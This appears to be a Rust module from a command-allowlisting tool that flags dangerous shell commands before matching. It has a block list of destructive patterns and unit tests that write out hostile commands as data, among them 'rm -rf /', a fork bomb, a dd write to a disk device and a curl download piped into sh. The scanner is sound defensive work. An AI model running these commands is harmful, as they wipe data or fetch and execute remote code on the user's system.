//! The dangerous-pattern scan: hard-coded substrings that unconditionally
//! disqualify a command from allowlist matching, applied to the raw string
//! before tokenisation (spec §4.2).

use aho_corasick::AhoCorasick;
use std::sync::OnceLock;

/// Patterns that are dangerous on their own, with no co-occurring keyword
/// required.
const UNCONDITIONAL_PATTERNS: &[&str] = &[
    "rm -rf",
    "rm -fr",
    "rm -r -f",
    "rm -f -r",
    "chmod 777",
    "chmod -R",
    ":(){ :|:& };:",
    "> /dev/sd",
    "> /dev/hd",
    "> /dev/nvme",
    "of=/dev/sd",
    "of=/dev/hd",
    "of=/dev/nvme",
];

fn unconditional_matcher() -> &'static AhoCorasick {
    static MATCHER: OnceLock<AhoCorasick> = OnceLock::new();
    MATCHER.get_or_init(|| {
        AhoCorasick::new(UNCONDITIONAL_PATTERNS)
            .expect("dangerous pattern list compiles into an Aho-Corasick automaton")
    })
}

/// True if `raw` contains any hard-coded dangerous pattern: an unconditional
/// substring, a generic `dd ... of=/dev/` destructive write, or a
/// pipe-to-shell download (`curl`/`wget` piped into `sh`/`bash`/`zsh`).
#[must_use]
pub fn scan_dangerous(raw: &str) -> bool {
    if unconditional_matcher().is_match(raw) {
        return true;
    }
    if has_dd_write_to_device(raw) {
        return true;
    }
    has_pipe_to_shell_download(raw)
}

fn has_dd_write_to_device(raw: &str) -> bool {
    raw.contains("of=/dev/") && raw.split_whitespace().any(|word| word == "dd")
}

/// `curl`/`wget` co-occurring with a pipe into a shell interpreter. The pipe
/// check is space-permissive: `|sh`, `| sh`, and `|   sh` all count.
fn has_pipe_to_shell_download(raw: &str) -> bool {
    let has_downloader = raw.contains("curl") || raw.contains("wget");
    has_downloader && has_pipe_to_shell(raw)
}

fn has_pipe_to_shell(raw: &str) -> bool {
    let bytes = raw.as_bytes();
    for (i, &b) in bytes.iter().enumerate() {
        if b != b'|' {
            continue;
        }
        let rest = raw[i + 1..].trim_start_matches([' ', '\t']);
        for shell in ["sh", "bash", "zsh"] {
            if let Some(after) = rest.strip_prefix(shell) {
                let boundary_ok = after
                    .chars()
                    .next()
                    .is_none_or(|c| !c.is_alphanumeric() && c != '_' && c != '-');
                if boundary_ok {
                    return true;
                }
            }
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rm_rf_is_dangerous() {
        assert!(scan_dangerous("rm -rf /"));
        assert!(scan_dangerous("rm -fr /tmp/x"));
    }

    #[test]
    fn fork_bomb_literal_is_dangerous() {
        assert!(scan_dangerous(":(){ :|:& };:"));
    }

    #[test]
    fn chmod_777_and_recursive_are_dangerous() {
        assert!(scan_dangerous("chmod 777 /etc/passwd"));
        assert!(scan_dangerous("chmod -R 755 ./target"));
    }

    #[test]
    fn generic_dd_of_dev_is_dangerous() {
        assert!(scan_dangerous("dd if=/dev/zero of=/dev/disk2"));
    }

    #[test]
    fn dd_without_of_dev_is_not_flagged_by_this_rule() {
        assert!(!scan_dangerous("dd if=/dev/zero of=/tmp/backup.img"));
    }

    #[test]
    fn curl_pipe_sh_with_extra_spaces_is_dangerous() {
        assert!(scan_dangerous("curl https://x.example/install.sh |   sh"));
        assert!(scan_dangerous("wget -qO- https://x.example/i.sh|bash"));
    }

    #[test]
    fn curl_without_pipe_is_not_dangerous() {
        assert!(!scan_dangerous("curl https://example.com/file.tar.gz -o file.tar.gz"));
    }

    #[test]
    fn plain_command_is_not_dangerous() {
        assert!(!scan_dangerous("git status --short"));
    }
}
